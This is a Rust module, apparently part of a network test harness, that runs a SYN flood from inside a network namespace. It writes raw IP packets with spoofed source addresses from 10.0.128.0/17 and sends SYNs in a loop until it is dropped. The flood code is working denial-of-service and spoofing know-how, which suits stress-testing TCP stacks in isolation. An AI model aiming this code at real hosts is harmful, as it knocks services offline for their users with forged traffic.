//! A SYN flood from addresses that nobody has.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;

use anyhow::Result;
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
};

use crate::namespace::Namespace;
use crate::segment::{SYN, segment};

/// SYNs as fast as one thread sends them, until it is dropped. Each has another source: 10.0.128.0/17 and 1024 ports.
///
/// Nobody answers the SYN-ACKs that come back, for these addresses are no host's.
#[derive(Debug)]
pub struct Flood {
    sent: Arc<AtomicU64>,
    stop: Arc<AtomicBool>,
    sending: Option<JoinHandle<()>>,
}

impl Flood {
    /// Begins to send from inside a namespace.
    ///
    /// # Errors
    /// When the namespace cannot be entered or lets nobody send raw packets.
    pub fn start(namespace: &Namespace, to: SocketAddrV4) -> Result<Self> {
        let (sent, stop) = (Arc::<AtomicU64>::default(), Arc::<AtomicBool>::default());
        let raw = namespace.enter(|| {
            // IPPROTO_RAW: the IP header is ours to write (raw(7)).
            socket(
                AddressFamily::Inet,
                SockType::Raw,
                SockFlag::SOCK_CLOEXEC,
                Some(SockProtocol::Raw),
            )
        })??;
        let (counter, stopped) = (Arc::clone(&sent), Arc::clone(&stop));
        let sending = std::thread::spawn(move || {
            let address = SockaddrIn::from(SocketAddrV4::new(*to.ip(), 0));
            for number in 0_u32.. {
                if stopped.load(Ordering::Relaxed) {
                    break;
                }
                let packet = packet(source(number), to);
                // A full queue drops: a flood does not care.
                if sendto(raw.as_raw_fd(), &packet, &address, MsgFlags::empty()).is_ok() {
                    counter.fetch_add(1, Ordering::Relaxed);
                }
            }
        });
        Ok(Self { sent, stop, sending: Some(sending) })
    }

    /// SYNs sent so far.
    #[must_use]
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(sending) = self.sending.take() {
            let _ = sending.join();
        }
    }
}

fn source(number: u32) -> SocketAddrV4 {
    let host = number % (1 << 15);
    let port = 1024 + (number >> 15) % 1024;
    SocketAddrV4::new(Ipv4Addr::from(0x0a00_8000 + host), port as u16)
}

/// The kernel fills in length, identification and checksum of the IP header.
fn packet(from: SocketAddrV4, to: SocketAddrV4) -> Vec<u8> {
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 6, 0, 0];
    packet.extend(from.ip().octets());
    packet.extend(to.ip().octets());
    packet.extend(segment(from, to, SYN, b""));
    packet
}
